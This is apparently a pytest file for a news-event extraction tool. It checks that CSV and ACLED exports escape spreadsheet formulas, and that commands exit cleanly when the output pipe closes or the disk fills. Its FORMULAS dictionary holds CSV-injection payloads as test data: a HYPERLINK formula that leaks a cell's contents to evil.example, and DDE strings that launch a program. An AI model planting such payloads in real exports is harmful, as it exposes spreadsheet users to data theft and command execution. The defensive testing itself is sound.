"""The exports under hostile input: formulas in CSV cells (issue 26, case 9) and a standard
output closed early (issue 26, case 10)."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from fogofwar.model import Article, Claim, Event, Place, Record, Speaker
from fogofwar.report.spreadsheet import csv_cell
from fogofwar.store import Store
from tests.conftest import ROOT, invoke
from tests.serving import sample_records, save_all

# What a spreadsheet runs when it opens a CSV: a cell starting with = + - @ (OWASP's CSV
# injection page), or with a tab or a carriage return before one.
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "outlet": "=cmd|' /C calc'!A0",
    "speaker": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": "+1+cmd|' /C calc'!A0",
    "actor": "-2+3+cmd|' /C calc'!A0",
    "claim": "\t=1+1",
    "event": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _hostile() -> Record:
    """An article whose every free-text field a spreadsheet would run as a formula."""
    claim, event, place = FORMULAS["claim"], FORMULAS["event"], FORMULAS["place"]
    text = f"{claim} said {FORMULAS['speaker']}. {event} near {place}."
    said = text.index(" said") + 1
    speaker = text.index(FORMULAS["speaker"])
    return Record(
        article=Article(
            id="attack/formulas",
            text=text,
            title=FORMULAS["title"],
            outlet=FORMULAS["outlet"],
            published="2024-08-12",
            cites=[FORMULAS["outlet"]],
        ),
        places=[
            Place(
                place,
                text.index(place),
                text.index(place) + len(place),
                name=place,
                lat=-33.9,  # a negative coordinate: a number, which must stay one
                lon=-70.65,
                country_code="CL",
                kind="populated_place",
            )
        ],
        claims=[
            Claim(
                "c1",
                claim,
                0,
                len(claim),
                cue="said",
                cue_start=said,
                cue_end=said + 4,
                speaker=Speaker(
                    name=FORMULAS["speaker"],
                    kind="official",
                    text=FORMULAS["speaker"],
                    start=speaker,
                    end=speaker + len(FORMULAS["speaker"]),
                ),
            )
        ],
        events=[
            Event(
                "e1",
                event,
                text.index(event),
                text.index(event) + len(event),
                type="Battles",
                actor1=FORMULAS["actor"],
                place=0,
            )
        ],
    )


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    with Store(url) as store:
        save_all(store, [*sample_records(), _hostile()])
    return url


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(rows: list[dict[str, str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a trigger and not a plain number."""
    return [
        cell
        for row in rows
        for cell in row.values()
        if cell and (cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS)) and not _is_number(cell)
    ]


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_csv_folder_holds_no_cell_a_spreadsheet_would_run(
    hostile_db: str, cli: CliRunner, tmp_path: Path
) -> None:
    folder = tmp_path / "csv"
    code, _, err = invoke(cli, "export", "--format", "csv", "--db", hostile_db, "-o", str(folder))
    assert code == 0, err
    tables = {path.stem: _read_csv(path) for path in folder.glob("*.csv")}
    for name, rows in tables.items():
        assert _formula_cells(rows) == [], name
    # Each formula is still there, as text: one leading quote, nothing else changed.
    # A carriage return inside a cell stays inside it: no row starts in the middle of a text.
    assert len(tables["articles"]) == 4
    article = next(r for r in tables["articles"] if r["id"] == "attack/formulas")
    assert article["text"] == "'" + _hostile().article.text
    assert article["title"] == "'" + FORMULAS["title"]
    assert article["outlet"] == "'" + FORMULAS["outlet"]
    claim = next(r for r in tables["claims"] if r["article_id"] == "attack/formulas")
    assert claim["text"] == "'" + FORMULAS["claim"]
    assert claim["speaker_name"] == "'" + FORMULAS["speaker"]
    cite = next(r for r in tables["cites"] if r["article_id"] == "attack/formulas")
    assert cite["name"] == "'" + FORMULAS["outlet"]
    # Numbers stay numbers, negative ones included.
    place = next(r for r in tables["places"] if r["article_id"] == "attack/formulas")
    assert (place["lat"], place["lon"]) == ("-33.9", "-70.65")
    assert place["name"] == "'" + FORMULAS["place"]


def test_the_acled_csv_holds_no_cell_a_spreadsheet_would_run(hostile_db: str, cli: CliRunner) -> None:
    code, out, err = invoke(cli, "export", "--format", "acled", "--db", hostile_db)
    assert code == 0, err
    rows = list(csv.DictReader(out.splitlines(keepends=True)))
    assert _formula_cells(rows) == []
    assert len(rows) == 3
    event = next(r for r in rows if r["event_id_cnty"] == "attack/formulas#e1")
    assert event["actor1"] == "'" + FORMULAS["actor"]
    assert event["location"] == "'" + FORMULAS["place"]
    assert event["notes"] == "'" + FORMULAS["event"]
    assert event["source"].startswith("'" + FORMULAS["outlet"])
    assert (event["latitude"], event["longitude"]) == ("-33.9", "-70.65")
    # The other articles' rows are as before: no quote where no formula was.
    battle = next(r for r in rows if r["event_id_cnty"] == "test/kyiv-post-syrskyi#e1")
    assert battle["source"] == "Kyiv Post; Reuters" and battle["location"] == "Sudzha"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # importers that trim spaces would see the formula
        ("- a bulleted sentence", "'- a bulleted sentence"),
        # Text a spreadsheet reads as a number runs nothing, and stays as it is.
        ("-33.9", "-33.9"),
        ("+7", "+7"),
        ("-1e5", "-1e5"),
        (-33.9, -33.9),
        (0, 0),
        ("Kyiv", "Kyiv"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (["=1", "b"], "'=1; b"),
    ],
)
def test_a_cell_is_made_formula_safe_and_numbers_are_left_alone(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


# A standard output closed early (`| head`): the command stops quietly, as Unix tools do,
# with 141, the status a shell gives a tool that SIGPIPE ended.
CLOSED_PIPE = 141
FOGOFWAR = [sys.executable, "-m", "fogofwar"]
ENV = {**os.environ, "PYTHONPATH": str(ROOT / "src")}


@pytest.fixture
def big_db(tmp_path: Path) -> str:
    """A store whose export is far bigger than a pipe's buffer (64 KiB on Linux)."""
    url = f"sqlite:///{tmp_path / 'big.db'}"
    long_text = "Shelling hit the town again overnight, officials said. " * 100
    records = [
        Record(
            article=Article(
                id=f"big/{i:03d}",
                text=f"{long_text}{i}",
                title=f"Report {i}",
                outlet="AP",
                published="2024-08-02",
            )
        )
        for i in range(60)
    ]
    with Store(url) as store:
        save_all(store, [*sample_records(), *records])
    return url


def _quiet(stderr: str) -> None:
    assert "error" not in stderr.lower() and "Traceback" not in stderr and "Exception" not in stderr, stderr


def test_export_into_a_reader_that_stops_after_one_line_exits_quietly(big_db: str) -> None:
    writer = subprocess.Popen(
        [*FOGOFWAR, "export", "--format", "jsonl", "--db", big_db],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=ENV,
    )
    assert writer.stdout is not None and writer.stderr is not None
    reader = subprocess.run(
        [sys.executable, "-c", "import sys; print(sys.stdin.readline()[:40])"],
        stdin=writer.stdout,
        capture_output=True,
        text=True,
        timeout=120,
    )
    writer.stdout.close()  # the reader's end was the only one left open: now it is closed
    stderr = writer.stderr.read().decode()
    assert writer.wait(timeout=120) == CLOSED_PIPE, stderr
    _quiet(stderr)
    assert reader.stdout.startswith('{"schema"') or reader.stdout.startswith("{"), reader.stdout


def _into_closed_pipe(*args: str) -> subprocess.CompletedProcess[str]:
    """Run fogofwar with its standard output a pipe whose reader has already gone."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        return subprocess.run(
            [*FOGOFWAR, *args], stdout=write_end, stderr=subprocess.PIPE, text=True, env=ENV, timeout=300
        )
    finally:
        os.close(write_end)


@pytest.mark.parametrize(
    "args",
    [
        ("export", "--format", "jsonl"),
        ("export", "--format", "acled"),
        ("export", "--format", "geojson"),
        ("articles",),
        ("articles", "--format", "jsonl"),
        ("show", "test/kyiv-post-syrskyi"),
        ("show", "test/kyiv-post-syrskyi", "--format", "json"),
    ],
    ids=" ".join,
)
def test_every_reading_command_exits_quietly_on_a_closed_pipe(big_db: str, args: tuple[str, ...]) -> None:
    done = _into_closed_pipe(*args, "--db", big_db)
    _quiet(done.stderr)
    assert done.returncode == CLOSED_PIPE, done.stderr


def test_extract_exits_quietly_on_a_closed_pipe(tmp_path: Path) -> None:
    article = tmp_path / "a.txt"
    article.write_text("Shelling hit Kharkiv on Monday, the governor said.", encoding="utf-8")
    done = _into_closed_pipe("extract", str(article))
    _quiet(done.stderr)
    assert done.returncode == CLOSED_PIPE, done.stderr


@pytest.mark.parametrize(
    "args", [("export", "--format", "jsonl"), ("articles",), ("articles", "-f", "jsonl")], ids=" ".join
)
def test_a_write_error_on_standard_output_is_one_line_naming_it(
    hostile_db: str, args: tuple[str, ...]
) -> None:
    """A full disk behind standard output: one line naming it, never "None:", never a traceback."""
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [*FOGOFWAR, *args, "--db", hostile_db],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env=ENV,
            timeout=120,
        )
    assert done.returncode == 1
    assert done.stderr.strip().splitlines() == [
        "error: standard output: cannot write (No space left on device)"
    ]
